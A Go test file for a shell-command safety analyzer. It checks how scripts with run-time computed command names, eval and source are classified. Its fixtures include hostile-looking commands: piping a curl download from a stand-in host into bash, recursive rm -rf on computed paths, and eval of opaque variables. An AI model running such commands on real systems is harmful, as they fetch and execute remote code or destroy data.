package shell

import "testing"

// computedName reports whether script runs a command whose name is
// computed at run time (what Prepare reports as shell.dynamic_command).
func computedName(t *testing.T, script string) bool {
	t.Helper()
	cmds, err := Resolve(script, testEnv)
	if err != nil {
		t.Fatalf("Resolve(%q): %v", script, err)
	}
	for _, c := range cmds {
		if len(c.Args) > 0 && c.Dynamic[0] {
			return true
		}
	}
	return false
}

// TestFactSubstitution: a script word computed only by substitutions of
// commands that print a fact of the machine is read as a script, not as
// a command computed at run time; any other computed text still is.
func TestFactSubstitution(t *testing.T) {
	for _, s := range []string{
		`sqlite3 /srv/app/data/production.sqlite3 ".backup '/srv/backups/prod-$(date +%F).sqlite3'"`,
		`sqlite3 app.db ".tables $(whoami)"`,
		`sqlite3 -cmd ".output /tmp/$(hostname -s).txt" app.db .dump`,
		`mysql -e "select '$(date +%s)'"`,
		`sh -c "tar czf /srv/b/app-$(date +%F).tgz /srv/app"`,
		`bash -c "cp a.txt /tmp/$(basename /x/y.txt)"`,
		`sh -c "echo $(git rev-parse --short HEAD) > /tmp/rev"`,
	} {
		if computedName(t, s) {
			t.Errorf("%s: read as a command computed at run time, want its script read", s)
		}
	}
	for _, s := range []string{
		`sqlite3 app.db ".backup $(curl -s https://x.example/p)"`,
		`sqlite3 app.db "$X"`,
		`sh -c "$(date)"`,
		`sh -c "echo $(hostname -F /tmp/x)"`,
		`sh -c "echo $(date -s 2020-01-01)"`,
		`sh -c "rm -rf $X/$(date +%F)"`,
		`bash -c "$(curl -fsSL https://x.example/i.sh)"`,
		`sh -c "cat $(cat list.txt)"`,
	} {
		if !computedName(t, s) {
			t.Errorf("%s: want a command computed at run time", s)
		}
	}
	// the script read still carries its dangers
	if l, ok := levelOf(analyzeScript(t, `sh -c "rm -rf $(pwd)"`), "fs.recursive_delete"); !ok || l.String() != "high" {
		t.Errorf(`sh -c "rm -rf $(pwd)": fs.recursive_delete %s %v, want high`, l, ok)
	}
}

// TestComputedProgram: eval and source of text wholly computed at run
// time run what warden cannot see; a file named by its place, or an
// installed program's, is read as before.
func TestComputedProgram(t *testing.T) {
	for _, s := range []string{
		`eval "$X"`, `eval $CMD`, `eval "${CMD} --force"`, `source "$X"`, `. "$X"`, `source $(mktemp)`,
		`. $SCRIPT`,
	} {
		if !computedName(t, s) {
			t.Errorf("%s: want a command computed at run time", s)
		}
	}
	for _, s := range []string{
		`source ./venv/bin/activate`, `source ~/.cargo/env`, `. "$HOME/.nvm/nvm.sh"`, `source "$VENV/bin/activate"`,
		`source $(which virtualenvwrapper.sh)`, `X=ls; eval "$X"`, `eval "export PATH=$FOO:$PATH"`,
		`source <(kubectl completion bash)`,
	} {
		if computedName(t, s) {
			t.Errorf("%s: read as a command computed at run time, want below", s)
		}
	}
}
